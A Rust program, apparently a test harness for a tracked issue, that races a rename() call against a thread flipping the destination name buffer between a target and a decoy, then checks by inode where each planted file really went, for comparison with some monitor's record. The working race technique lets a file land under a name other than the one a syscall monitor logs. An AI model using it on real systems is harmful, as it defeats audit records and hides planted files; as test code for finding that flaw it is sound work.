//! Issue 15 attack: a thread rewrites rename's new-name buffer while the call runs, so a name
//! read from the caller's memory after the kernel copied it names a decoy.
//!
//! `attack_rename_race TARGET DECOY N`: N times, writes a fresh file `TARGET.src`, then
//! renames it to the name in a shared buffer that another thread flips between TARGET and
//! DECOY (same length: the flip is one `memcpy`, so a torn copy can name a third file). After
//! each rename the kernel's truth is read back by inode: the source's inode number is now
//! TARGET's, DECOY's, or neither's (a torn name). Prints how many really went where, and one
//! line per rename (`truth I target|decoy|torn|failed`) for comparing with the record.
use std::ffi::CString;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    assert!(args.len() == 4, "usage: attack_rename_race TARGET DECOY N");
    let (target, decoy) = (args[1].clone(), args[2].clone());
    let n: usize = args[3].parse().expect("N");
    assert_eq!(
        target.len(),
        decoy.len(),
        "TARGET and DECOY must have the same length"
    );
    let len = target.len();
    // The shared buffer: a leaked, page-aligned allocation both threads use.
    let buf: &'static mut [u8] = Box::leak(vec![0u8; len + 1].into_boxed_slice());
    buf[..len].copy_from_slice(target.as_bytes());
    let addr = buf.as_mut_ptr() as usize;
    let stop = Arc::new(AtomicBool::new(false));
    let flipper = {
        let stop = stop.clone();
        let (t, d) = (target.clone().into_bytes(), decoy.clone().into_bytes());
        std::thread::spawn(move || {
            let p = addr as *mut u8;
            while !stop.load(Ordering::Relaxed) {
                // SAFETY: the buffer lives for the whole program; a torn name is what we want.
                unsafe {
                    std::ptr::copy_nonoverlapping(d.as_ptr(), p, len);
                    std::ptr::copy_nonoverlapping(t.as_ptr(), p, len);
                }
            }
        })
    };
    let src = CString::new(format!("{target}.src")).unwrap();
    let (mut to_target, mut to_decoy, mut torn, mut failed) = (0, 0, 0, 0);
    let mut truths = Vec::with_capacity(n);
    let ino_of = |p: &str| {
        std::fs::metadata(p)
            .map(|m| std::os::unix::fs::MetadataExt::ino(&m))
            .ok()
    };
    for i in 0..n {
        std::fs::write(src.to_str().unwrap(), format!("echo planted {i}\n")).unwrap();
        let ino = ino_of(src.to_str().unwrap());
        // SAFETY: both pointers name NUL-terminated buffers that outlive the call.
        let r = unsafe { libc::rename(src.as_ptr(), addr as *const libc::c_char) };
        let truth = if r != 0 {
            failed += 1;
            "failed"
        } else if ino_of(&target) == ino {
            to_target += 1;
            "target"
        } else if ino_of(&decoy) == ino {
            to_decoy += 1;
            "decoy"
        } else {
            torn += 1;
            "torn"
        };
        truths.push(format!("truth {i} {truth}"));
    }
    stop.store(true, Ordering::Relaxed);
    flipper.join().unwrap();
    for t in &truths {
        println!("{t}");
    }
    println!(
        "renames: {n}; really to {target}: {to_target}; really to {decoy}: {to_decoy}; to a torn name: {torn}; failed: {failed}"
    );
}
